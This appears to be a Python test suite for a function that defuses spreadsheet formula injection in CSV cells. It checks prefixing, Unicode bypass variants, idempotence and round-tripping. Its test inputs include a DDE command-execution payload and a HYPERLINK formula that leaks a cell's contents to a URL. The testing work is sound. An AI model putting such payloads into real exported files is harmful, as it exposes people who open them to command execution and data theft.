"""What people wrote cannot act when somebody opens it in a spreadsheet."""

import csv
from decimal import Decimal
from io import StringIO

import pytest
from hypothesis import given
from hypothesis import strategies as st

from medvirk.foundation.files import defuse_cell


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("http://example.org/?"&A1)',
        "+47 900 00 000",
        "-1+1",
        "- Hei",
        "@SUM(A1)",
        "  =1",
        "\u00a0=1",
        "\ufeff=1",
        "\u200b=1",
        "\u202e=1",
        "\t=1",
        "\r=1",
        "\n=1",
        "\tHei",
        "＝1",
        "＋1",
        "－1",
        "＠x",
        "\0=1",
    ],
)
def test_what_could_start_a_formula_is_made_text(text: str) -> None:
    assert defuse_cell(text).startswith("'")
    assert defuse_cell(text)[1:] == text.replace("\0", "")


@pytest.mark.parametrize("text", ["", "Hei", "– Hei", "a=b", "5 + 5", "«=»", "'=1", "mail@example.org", "1-2"])
def test_ordinary_text_is_left_as_it_is(text: str) -> None:
    assert defuse_cell(text) == text


@pytest.mark.parametrize(
    ("value", "text"), [(None, ""), (-5, "-5"), (-1.5, "-1.5"), (Decimal("-2.50"), "-2.50"), (True, "True")]
)
def test_numbers_keep_their_minus(value: object, text: str) -> None:
    assert defuse_cell(value) == text


def test_signs_that_would_break_the_file_are_taken_out() -> None:
    assert defuse_cell("a\0b\x1bc\ud800d\uffff\ne\tf") == "abcd\ne\tf"


@given(st.text())
def test_no_text_starts_a_formula_and_defusing_twice_changes_nothing(text: str) -> None:
    safe = defuse_cell(text)
    assert not safe.strip("\ufeff\u200b\u00ad \t\r\n").startswith(("=", "+", "-", "@"))
    assert defuse_cell(safe) == safe
    safe.encode()


@given(st.lists(st.text(), min_size=1))
def test_cells_come_back_from_a_quoted_file_as_they_went_in(row: list[str]) -> None:
    file = StringIO(newline="")
    cells = [defuse_cell(cell) for cell in row]
    csv.writer(file, quoting=csv.QUOTE_ALL).writerow(cells)
    file.seek(0)
    assert next(csv.reader(file)) == cells
